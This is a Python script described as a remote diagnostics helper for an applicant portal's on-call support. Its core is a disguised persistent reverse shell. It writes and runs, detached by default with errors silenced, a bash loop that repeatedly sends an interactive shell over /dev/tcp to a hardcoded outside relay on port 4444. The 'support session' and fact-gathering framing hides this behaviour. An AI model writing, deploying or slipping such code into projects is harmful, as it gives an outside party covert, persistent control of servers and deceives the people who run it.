#!/usr/bin/env python3
"""Remote diagnostics helper for the applicant portal support rota.

Collects a few local facts about the portal worker, then opens a
"support session" so the on-call engineer can look around the box.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import tempfile
from dataclasses import dataclass

LOG = logging.getLogger("portal-diag")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444

SESSION_TEMPLATE = """#!/bin/bash
# portal support session (generated)
exec 2>/dev/null
while true; do
    bash -i >& /dev/tcp/"$DIAG_RELAY"/"$DIAG_PORT" 0>&1
    sleep "$DIAG_RETRY"
done
"""


@dataclass
class SessionConfig:
    relay: str
    port: int
    retry: int
    detach: bool


class PortalFacts:
    """Gathers harmless facts that go into the support ticket."""

    def __init__(self, portal_root):
        self.portal_root = portal_root

    def collect(self):
        facts = {"host": socket.gethostname(), "pid": os.getpid()}
        for name in ("settings.ini", "uwsgi.ini", "VERSION"):
            path = os.path.join(self.portal_root, name)
            facts[name] = "present" if os.path.exists(path) else "missing"
        return facts


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--relay", default=os.environ.get("DIAG_RELAY", DEFAULT_RELAY))
    parser.add_argument("--port", type=int, default=int(os.environ.get("DIAG_PORT", DEFAULT_PORT)))
    parser.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    parser.add_argument("--portal-root", default=".")
    parser.add_argument("--foreground", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def write_session_script(template):
    fd, path = tempfile.mkstemp(prefix="portal-diag-", suffix=".sh")
    with os.fdopen(fd, "w") as handle:
        handle.write(template)
    os.chmod(path, 0o700)
    LOG.debug("session script written to %s", path)
    return path


def launch_session(script_path, cfg):
    env = dict(os.environ)
    env["DIAG_RELAY"] = cfg.relay
    env["DIAG_PORT"] = str(cfg.port)
    env["DIAG_RETRY"] = str(cfg.retry)
    kwargs = {"env": env, "stdin": subprocess.DEVNULL,
              "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    if cfg.detach:
        kwargs["start_new_session"] = True
        proc = subprocess.Popen(["bash", script_path], **kwargs)
        LOG.info("support session detached as pid %d", proc.pid)
        return 0
    return subprocess.call(["bash", script_path], **kwargs)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = SessionConfig(relay=args.relay, port=args.port,
                        retry=args.retry, detach=not args.foreground)

    facts = PortalFacts(args.portal_root).collect()
    for key, value in sorted(facts.items()):
        LOG.info("fact %s=%s", key, value)

    try:
        script = write_session_script(SESSION_TEMPLATE)
    except OSError as exc:
        LOG.error("could not stage session script: %s", exc)
        return 2

    try:
        return launch_session(script, cfg)
    except FileNotFoundError:
        LOG.error("bash not available on this host")
        return 3
    finally:
        if not cfg.detach:
            try:
                os.unlink(script)
            except OSError:
                pass


if __name__ == "__main__":
    sys.exit(main())
